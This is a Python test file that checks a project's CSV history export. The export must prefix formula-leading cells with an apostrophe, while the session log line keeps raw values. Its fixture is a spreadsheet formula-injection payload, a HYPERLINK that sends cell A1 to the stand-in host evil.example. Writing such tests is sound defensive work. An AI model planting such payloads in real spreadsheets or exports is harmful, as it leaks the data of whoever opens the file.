"""The history CSV export: formula cells neutralised, the session log line left as it was."""

from __future__ import annotations

import csv
import io

from sqlalchemy import Engine

from gaze import history
from gaze.export import CSV_HEADER, csv_rows
from gaze.history import Filters
from gaze.logs.format import format_session_line
from tests.test_history import IMPORT, insert, rec


def test_csv_export_neutralises_formulas_the_log_line_does_not(engine: Engine) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    insert(engine, [rec(1_800_000_000_000, 60, "10.0.0.7", evil, "@cdn_math")], IMPORT)
    data = "".join(csv_rows(engine, history.Range(0, 2**62, "all"), Filters(), {"10.0.0.7": "+Tablet"}, lambda m: "-x"))
    header, row = list(csv.reader(io.StringIO(data, newline="")))
    assert tuple(header) == CSV_HEADER
    assert row[0] == "'" + evil and row[4] == "'-x" and row[6] == "'@cdn_math" and row[7] == "'+Tablet"
    assert row[5] == "60" and row[2] == "10.0.0.7"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    # the session log line (what the upload scripts read) keeps the value as it was
    assert f"userId={evil}|10.0.0.7" in format_session_line(1_800_000_000_000, evil, "10.0.0.7", "@cdn_math", 60)
